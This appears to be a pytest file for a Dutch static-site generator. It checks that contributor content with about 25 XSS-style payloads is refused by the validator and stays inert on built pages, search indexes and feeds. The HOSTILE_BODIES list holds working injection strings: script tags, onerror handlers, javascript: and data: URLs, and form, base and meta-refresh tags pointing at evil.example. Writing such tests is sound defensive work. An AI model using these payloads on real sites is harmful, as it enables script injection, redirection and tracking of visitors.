"""Hostile contributor files: refused by `check` with file and line, and inert on the built site.

Every class of attack that once reached a page (issue 11) is a row of HOSTILE_BODIES. Each is
written into its own resource of a copy of the fixture site. `check` must refuse every one
of them at a line of that file. Then the site is built *past* the validator (render, MkDocs,
Pagefind: the stages a refused build never reaches) to prove the second line of defence: what
the renderer puts on a page is sanitised HTML, so no script, handler, embedding tag,
javascript:/data: URL or remote asset comes from content even when the check is bypassed.
"""

from __future__ import annotations

import json
import re
import shutil
from datetime import date
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from generator.link.graph import build_graph
from generator.load.repository import check_repository, load_repository
from generator.publish.renderer import run_mkdocs, run_pagefind
from generator.render.pages import render_config, render_site
from generator.settings import Settings, markdown_setup
from tests.conftest import FIXTURE_SITE, copy_repository

TODAY = date(2026, 6, 1)
MARK = "KP_AANVAL"  # every payload calls this, so a surviving one is easy to find

HOSTILE_BODIES: dict[str, str] = {
    "script": f"<script>{MARK}(1)</script>",
    "unclosed-fence": f"```\n<script>{MARK}(2)</script>\n<iframe src=x></iframe>",
    "fence-bad-info": f"```python {{.x onload=1}}\n<img src=x onerror={MARK}(3)>\n```",
    "escaped-backticks": f"\\`<script>{MARK}(4)</script>\\`",
    "code-span-blank-line": f"`begin\n\n<img src=x onerror={MARK}(5)>`",
    "empty-comment": f"<!--> <img src=x onerror={MARK}(6)>",
    "bogus-cdata": f"<![CDATA[ >\n<iframe src=javascript:{MARK}(7)></iframe>",
    "link-text-two-lines": f"[klik\nhier](javascript:{MARK}(8))",
    "nested-brackets": f"[a [b [c]]](javascript:{MARK}(9))",
    "reference-next-line": f"[klik][r]\n\n[r]:\n  javascript:{MARK}(10)",
    "entity-javascript": f"[klik](&#106;avascript:{MARK}(11))",
    "data-url": f"[klik](data:text/html,<script>{MARK}(12)</script>)",
    "pagefind-meta": f'<span data-pagefind-meta="title:{MARK}">x</span>'
                     f'<span data-pagefind-filter="soort:{MARK}">y</span>',
    "remote-image": f"![pixel](https://tracker.example/{MARK}.gif)",
    "handler-attribute": f'<a href="#" onclick="{MARK}(13)">a</a>',
    "object-embed": f'<object data="x"></object><embed src="{MARK}">',
    "svg": f"<svg><script>{MARK}(14)</script></svg>",
    "style-tag": f"<style>body{{background:url(https://tracker.example/{MARK})}}</style>",
    "form": f'<form action="https://evil.example/{MARK}"><input name=q></form>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}">',
    "base": f'<base href="https://evil.example/{MARK}/">',
    "iframe": f'<iframe src="https://evil.example/{MARK}"></iframe>',
    "clobber-config": f'<h2 id="__config">{MARK}</h2>',
    "deep-nesting": "- " * 2400 + MARK,
    "unclosed-div": f"<div>\n\nDe rest van de pagina {MARK}",
}


# Python-Markdown itself makes these harmless: a code span holds the "fence" with a bad info
# string, and nh3 closes the div. They pass `check`; the built pages below prove them inert.
RENDERED_INERT = frozenset({"fence-bad-info", "unclosed-div"})


def _resource(name: str, body: str) -> str:
    return (f'---\ntitel: "Aanval {name}"\nsamenvatting: "Een bestand met een aanval van de soort '
            f'{name}, om te testen."\ndoelgroepen: [statushouders]\norganisatie: [vng]\n'
            f"datum: 2026-01-01\ngecontroleerd: 2026-01-01\n---\n\nGewone tekst.\n\n{body}\n")


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_repository(FIXTURE_SITE, tmp_path_factory.mktemp("hostile"))
    for name, body in HOSTILE_BODIES.items():
        (root / "content" / "handreikingen" / f"aanval-{name}.md").write_text(
            _resource(name, body), "utf-8")
    return root


def test_check_refuses_every_hostile_body_at_a_line_of_its_file(hostile_root: Path) -> None:
    report = check_repository(hostile_root, TODAY).report
    body_start = _resource("x", "").count("\n") - 1
    for name in HOSTILE_BODIES:
        path = f"content/handreikingen/aanval-{name}.md"
        found = [d for d in report.errors if d.path == path]
        if name in RENDERED_INERT:
            assert found == [], (name, found)
            continue
        assert found, f"{name}: niet geweigerd"
        assert all(d.line >= body_start for d in found), (name, found)


@pytest.fixture(scope="module")
def built_past_the_validator(hostile_root: Path) -> Path:
    """The hostile site built without the validator's verdict: the renderer's own defence."""
    settings = Settings(root=hostile_root, today=TODAY)
    content = load_repository(hostile_root).content
    graph = build_graph(content, TODAY, markdown_setup(hostile_root))
    output = render_site(graph, settings, settings.docs_dir)
    assert not output.registry.problems
    settings.config_file.write_text(
        render_config(graph, settings, settings.docs_dir, settings.site_dir), "utf-8")
    run_mkdocs(settings)
    run_pagefind(settings)
    return settings.site_dir


def _live_markup(html: str) -> list[str]:
    """Everything on a page that the payloads could have turned into live markup."""
    tree = LexborHTMLParser(html)
    found = []
    for node in tree.root.traverse(include_text=False) if tree.root else []:
        tag = node.tag or ""
        if tag in ("iframe", "object", "embed", "form", "base", "svg", "style") and MARK in (
                node.html or ""):
            found.append(f"<{tag}>")
        if tag == "script" and MARK in (node.text() or ""):
            found.append("<script>")
        if tag == "meta" and (node.attributes.get("http-equiv") or "").lower() == "refresh":
            found.append("meta refresh")
        for name, value in node.attributes.items():
            value = value or ""
            if name.startswith("on") and MARK in value:
                found.append(f"{name}=")
            if name.startswith("data-pagefind") and MARK in value:
                found.append(name)
            if name in ("href", "src", "action") and re.match(r"\s*(javascript|data):", value, re.I):
                found.append(f"{name}={value[:30]}")
            if name == "src" and MARK in value:
                found.append(f"remote src {value[:40]}")
            if name == "id" and value == "__config" and tag != "script":
                found.append("clobbered __config")
    return found


def test_nothing_hostile_is_live_on_any_built_page(built_past_the_validator: Path) -> None:
    problems = {}
    for page in sorted(built_past_the_validator.rglob("*.html")):
        found = _live_markup(page.read_text("utf-8"))
        if found:
            problems[page.relative_to(built_past_the_validator).as_posix()] = found
    assert problems == {}


def test_the_payload_text_is_shown_as_text(built_past_the_validator: Path) -> None:
    page = built_past_the_validator / "handreikingen" / "aanval-fence-bad-info" / "index.html"
    article = LexborHTMLParser(page.read_text("utf-8")).css_first("article")
    assert article is not None and f"onerror={MARK}(3)" in article.text()


def test_an_unclosed_div_cannot_swallow_the_generated_sections(built_past_the_validator: Path) -> None:
    page = built_past_the_validator / "handreikingen" / "aanval-unclosed-div" / "index.html"
    tree = LexborHTMLParser(page.read_text("utf-8"))
    related = tree.css_first("#gerelateerd")
    assert related is not None and related.tag == "h2"
    assert "[" not in (tree.css_first(".kp-verwijzingen") or related).text()  # no raw Markdown


def test_search_index_has_no_injected_metadata_or_filters(built_past_the_validator: Path) -> None:
    index = built_past_the_validator / "pagefind"
    assert index.is_dir()
    for fragment in index.rglob("*"):
        if fragment.is_file():
            assert MARK.encode() not in _unpacked(fragment) or fragment.suffix != ".pf_meta", fragment
    filters = b"".join(_unpacked(f) for f in index.rglob("*.pf_filter"))
    assert b"soort:" + MARK.encode() not in filters and MARK.encode() not in filters


def _unpacked(path: Path) -> bytes:
    import gzip
    data = path.read_bytes()
    try:
        return gzip.decompress(data)
    except (OSError, EOFError):
        return data


def test_feeds_json_and_calendars_carry_text_not_markup(built_past_the_validator: Path) -> None:
    exported = json.loads((built_past_the_validator / "api" / "bronnen.json").read_text("utf-8"))
    assert exported  # the hostile resources are in the export, as data
    for feed in built_past_the_validator.rglob("*.xml"):
        assert "<script" not in feed.read_text("utf-8")
    for calendar in built_past_the_validator.rglob("*.ics"):
        assert "<script" not in calendar.read_text("utf-8")


def test_the_same_site_without_hostile_files_builds(tmp_path: Path, hostile_root: Path) -> None:
    clean = tmp_path / "clean"
    shutil.copytree(hostile_root, clean, ignore=shutil.ignore_patterns("build", "site"))
    for file in (clean / "content" / "handreikingen").glob("aanval-*.md"):
        file.unlink()
    assert check_repository(clean, TODAY).report.errors == ()
